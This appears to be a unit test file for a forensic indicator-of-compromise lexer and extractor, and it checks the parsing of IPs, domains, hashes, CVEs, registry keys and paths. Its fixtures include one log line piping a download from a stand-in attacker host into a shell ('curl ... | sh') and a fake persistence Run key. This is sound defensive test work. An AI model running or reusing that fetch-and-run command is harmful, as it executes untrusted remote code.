@@ -0,0 +1,188 @@
+#include <Arduino.h>
+#include <unity.h>
+#include <string>
+#include <vector>
+#include "ioc_lexer.h"
+#include "ioc_extractor.h"
+#include "storage.h"
+
+struct Token {
+    IOCType type;
+    std::string text;
+};
+
+static std::vector<Token> lex(const std::string& input) {
+    static IOCLexer lexer;
+    std::vector<Token> tokens;
+    lexer.scan((const uint8_t*)input.data(), input.size(), [&](IOCType type, size_t start, size_t end) {
+        tokens.push_back(Token{type, input.substr(start, end - start)});
+    });
+    return tokens;
+}
+
+static bool hasToken(const std::vector<Token>& tokens, IOCType type, const char* text) {
+    for (const Token& token : tokens) {
+        if (token.type == type && token.text == text) return true;
+    }
+    return false;
+}
+
+static size_t countType(const std::vector<Token>& tokens, IOCType type) {
+    size_t n = 0;
+    for (const Token& token : tokens) {
+        if (token.type == type) n++;
+    }
+    return n;
+}
+
+static bool hasValue(const std::vector<IOC>& iocs, const char* value) {
+    for (const IOC& ioc : iocs) {
+        if (ioc.value == value) return true;
+    }
+    return false;
+}
+
+static FRFDStorage storage;
+static IOCExtractor* extractor;
+
+// ===========================
+// IOCLexer spans
+// ===========================
+
+void test_lexes_ips_and_domains_inside_words() {
+    std::vector<Token> tokens = lex("conn from 203.0.113.7:443 to evil-c2.example.com_x, not 1.2.3");
+    TEST_ASSERT_TRUE(hasToken(tokens, IOC_IP_ADDRESS, "203.0.113.7"));
+    TEST_ASSERT_TRUE(hasToken(tokens, IOC_DOMAIN, "evil-c2.example.com"));
+    TEST_ASSERT_FALSE(hasToken(tokens, IOC_IP_ADDRESS, "1.2.3"));
+}
+
+void test_lexes_hashes_by_length() {
+    std::string md5(32, 'a');
+    std::string sha1(40, 'B');
+    std::string sha256(64, '7');
+    std::string odd(48, 'c');
+    std::vector<Token> tokens = lex("md5=" + md5 + " sha1:" + sha1 + " " + sha256 + " " + odd);
+
+    TEST_ASSERT_TRUE(hasToken(tokens, IOC_FILE_HASH_MD5, md5.c_str()));
+    TEST_ASSERT_TRUE(hasToken(tokens, IOC_FILE_HASH_SHA1, sha1.c_str()));
+    TEST_ASSERT_TRUE(hasToken(tokens, IOC_FILE_HASH_SHA256, sha256.c_str()));
+    TEST_ASSERT_EQUAL_UINT32(3, countType(tokens, IOC_FILE_HASH_MD5) + countType(tokens, IOC_FILE_HASH_SHA1) +
+                                countType(tokens, IOC_FILE_HASH_SHA256));
+}
+
+void test_lexes_emails_and_cves() {
+    std::vector<Token> tokens = lex("mail j.doe_1@corp-mail.example.org re CVE-2021-44228, user@localhost");
+    TEST_ASSERT_TRUE(hasToken(tokens, IOC_EMAIL, "j.doe_1@corp-mail.example.org"));
+    TEST_ASSERT_TRUE(hasToken(tokens, IOC_CVE, "CVE-2021-44228"));
+    TEST_ASSERT_FALSE(hasToken(tokens, IOC_EMAIL, "user@localhost"));
+}
+
+void test_reports_overlapping_types() {
+    // A URL, the domain and IP inside it are all reported
+    std::vector<Token> tokens = lex("GET https://cdn.bad.example/x?a=1 and http://198.51.100.9/p.sh\n");
+    TEST_ASSERT_TRUE(hasToken(tokens, IOC_URL, "https://cdn.bad.example/x?a=1"));
+    TEST_ASSERT_TRUE(hasToken(tokens, IOC_DOMAIN, "cdn.bad.example"));
+    TEST_ASSERT_TRUE(hasToken(tokens, IOC_URL, "http://198.51.100.9/p.sh"));
+    TEST_ASSERT_TRUE(hasToken(tokens, IOC_IP_ADDRESS, "198.51.100.9"));
+}
+
+void test_lexes_registry_keys_and_paths() {
+    std::vector<Token> tokens = lex(
+        "set HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater\n"
+        "dropped C:\\Users\\Public\\svch0st.exe\n");
+    TEST_ASSERT_TRUE(countType(tokens, IOC_REGISTRY_KEY) == 1);
+    TEST_ASSERT_TRUE(hasToken(tokens, IOC_REGISTRY_KEY,
+                              "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"));
+    TEST_ASSERT_TRUE(hasToken(tokens, IOC_FILE_PATH, "C:\\Users\\Public\\svch0st.exe"));
+}
+
+void test_plain_text_yields_nothing() {
+    TEST_ASSERT_EQUAL_UINT32(0, lex("the quick brown fox jumps over the lazy dog 12345 -- ok_done").size());
+}
+
+// ===========================
+// IOCExtractor validation and filtering
+// ===========================
+
+void test_extractor_filters_private_and_invalid_ips() {
+    std::vector<IOC> iocs = extractor->extractIPAddresses(
+        "a 10.0.0.5 b 127.0.0.1 c 203.0.113.7 d 999.1.1.1 e 8.8.8.8", "fixture");
+    TEST_ASSERT_TRUE(hasValue(iocs, "203.0.113.7"));
+    TEST_ASSERT_TRUE(hasValue(iocs, "8.8.8.8"));
+    TEST_ASSERT_FALSE(hasValue(iocs, "10.0.0.5"));
+    TEST_ASSERT_FALSE(hasValue(iocs, "127.0.0.1"));
+    TEST_ASSERT_FALSE(hasValue(iocs, "999.1.1.1"));
+}
+
+void test_extractor_type_masks() {
+    const char* content = "beacon to http://update.evil-c2.net/a.bin from 203.0.113.7, see CVE-2023-1234";
+
+    std::vector<IOC> urls = extractor->extractURLs(content, "fixture");
+    TEST_ASSERT_EQUAL_UINT32(1, urls.size());
+    TEST_ASSERT_TRUE(urls[0].type == IOC_URL);
+    TEST_ASSERT_EQUAL_STRING("http://update.evil-c2.net/a.bin", urls[0].value.c_str());
+
+    std::vector<IOC> cves = extractor->extractCVEs(content, "fixture");
+    TEST_ASSERT_EQUAL_UINT32(1, cves.size());
+    TEST_ASSERT_EQUAL_STRING("CVE-2023-1234", cves[0].value.c_str());
+
+    std::vector<IOC> hashes = extractor->extractFileHashes(content, "fixture");
+    TEST_ASSERT_EQUAL_UINT32(0, hashes.size());
+}
+
+void test_extract_from_file_keeps_every_occurrence() {
+    String log;
+    for (int i = 0; i < 400; i++) {
+        log += "Jan  1 00:00:00 host sshd[1]: Failed password for root from 203.0.113.";
+        log += String(i % 250);
+        log += " port 22\n";
+    }
+    log += "curl http://payload.evil-c2.net/x.sh | sh\n";
+    TEST_ASSERT_TRUE(storage.writeFile("/evidence/lexer_fixture.log", log));
+
+    extractor->clearIOCs();
+    extractor->resetFileMarks();
+    TEST_ASSERT_TRUE(extractor->extractFromFile("/evidence/lexer_fixture.log"));
+
+    // Every occurrence is kept, whichever chunk it falls in
+    std::vector<IOC> ips = extractor->getIOCsByType(IOC_IP_ADDRESS);
+    TEST_ASSERT_EQUAL_UINT32(400, ips.size());
+    TEST_ASSERT_EQUAL_STRING("203.0.113.0", ips[0].value.c_str());
+    TEST_ASSERT_EQUAL_STRING("203.0.113.149", ips[399].value.c_str());
+
+    std::vector<IOC> urls = extractor->getIOCsByType(IOC_URL);
+    TEST_ASSERT_EQUAL_UINT32(1, urls.size());
+    TEST_ASSERT_EQUAL_STRING("http://payload.evil-c2.net/x.sh", urls[0].value.c_str());
+}
+
+void setUp() {
+    Serial.setQuiet(true);
+}
+
+void tearDown() {
+}
+
+int main(int argc, char** argv) {
+    Serial.setQuiet(true);
+    SD.wipe();
+    SPIFFS.wipe();
+    storage.begin();
+    storage.createDirectory("/evidence");
+    extractor = new IOCExtractor();
+    extractor->begin(&storage);
+
+    UNITY_BEGIN();
+    RUN_TEST(test_lexes_ips_and_domains_inside_words);
+    RUN_TEST(test_lexes_hashes_by_length);
+    RUN_TEST(test_lexes_emails_and_cves);
+    RUN_TEST(test_reports_overlapping_types);
+    RUN_TEST(test_lexes_registry_keys_and_paths);
+    RUN_TEST(test_plain_text_yields_nothing);
+    RUN_TEST(test_extractor_filters_private_and_invalid_ips);
+    RUN_TEST(test_extractor_type_masks);
+    RUN_TEST(test_extract_from_file_keeps_every_occurrence);
+    int failures = UNITY_END();
+
+    delete extractor;
+    return failures;
+}